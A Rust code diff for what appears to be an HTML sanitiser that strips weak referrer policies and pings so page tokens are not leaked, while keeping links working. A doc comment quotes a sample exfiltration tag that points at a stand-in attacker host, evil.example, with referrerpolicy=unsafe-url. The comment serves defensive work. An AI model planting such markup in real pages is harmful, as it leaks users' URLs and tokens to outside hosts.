@@ -59,10 +59,19 @@ fn drop_weak_referrer_policy(el: &mut Element<'_, '_>, policy: Option<String>) {
 /// `faithful`) that must still lose something: a weak referrer policy or a ping would send the
 /// page's URL, token and all, elsewhere, and left as it is it did (`<img
 /// referrerpolicy=unsafe-url =x src=//evil.example/i>`, found while fixing a `rewrite_html`
-/// finding on `<base>`). The tag is written bare instead.
-fn remove_unwritable(el: &mut Element<'_, '_>) {
-    tracing::debug!("a tag that could not be written back safely lost its attributes");
-    write_bare(el, "");
+/// finding on `<base>`). The tag is written bare instead, but for its URLs (`urls`: each name
+/// with its first value as the page has it, `None` where absent or misread), so a link still
+/// goes where it went, without a token.
+fn remove_unwritable(el: &mut Element<'_, '_>, urls: &[(&str, Option<&str>)]) {
+    tracing::debug!("a tag that could not be written back safely lost its other attributes");
+    let mut kept = String::new();
+    for (name, value) in urls {
+        if let Some(value) = value {
+            // References read the same in double quotes as in any other value.
+            kept.push_str(&format!(r#" {name}="{}""#, value.replace('"', "&quot;")));
+        }
+    }
+    write_bare(el, &kept);
 }
 
 pub(super) fn on_link(shared: &Shared, el: &mut Element<'_, '_>) -> HandlerResult {
@@ -77,7 +86,9 @@ pub(super) fn on_link(shared: &Shared, el: &mut Element<'_, '_>) -> HandlerResul
     );
     if !faithful {
         if is_weak_referrer_policy(policy) || ping.is_some() {
-            remove_unwritable(el);
+            let href = href.as_deref().filter(|_| !href_misread);
+            let xlink_href = xlink_href.as_deref().filter(|_| !xlink_href_misread);
+            remove_unwritable(el, &[("href", href), ("xlink:href", xlink_href)]);
         }
         return Ok(());
     }
@@ -128,7 +139,7 @@ pub(super) fn on_frame(shared: &Shared, el: &mut Element<'_, '_>) -> HandlerResu
     );
     if !faithful {
         if is_weak_referrer_policy(policy) || srcdoc.is_some() {
-            remove_unwritable(el);
+            remove_unwritable(el, &[("src", src.as_deref().filter(|_| !src_misread))]);
         }
         return Ok(());
     }
@@ -157,14 +168,20 @@ fn may_set_referrer_policy(raw: &str) -> bool {
 
 pub(super) fn on_referrer_only(shared: &Shared, el: &mut Element<'_, '_>) -> HandlerResult {
     let Attrs {
-        values: [policy],
+        values: [policy, src, href],
         faithful,
-        ..
-    } = Attrs::read(el, ["referrerpolicy"], &shared.borrow().marks);
+        misread: [_, src_misread, href_misread],
+    } = Attrs::read(
+        el,
+        ["referrerpolicy", "src", "href"],
+        &shared.borrow().marks,
+    );
     if faithful {
         drop_weak_referrer_policy(el, policy);
     } else if is_weak_referrer_policy(policy) {
-        remove_unwritable(el);
+        let src = src.as_deref().filter(|_| !src_misread);
+        let href = href.as_deref().filter(|_| !href_misread);
+        remove_unwritable(el, &[("src", src), ("href", href)]);
     }
     Ok(())
 }
